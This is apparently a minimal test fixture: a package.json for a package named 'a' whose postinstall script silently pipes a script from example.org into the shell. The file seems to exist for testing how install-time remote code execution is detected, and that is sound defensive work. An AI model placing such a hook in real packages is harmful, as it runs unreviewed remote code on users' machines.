-- package.json --
{
  "name": "a",
  "scripts": {
    "postinstall": "curl -s https://example.org/setup.sh | sh"
  }
}
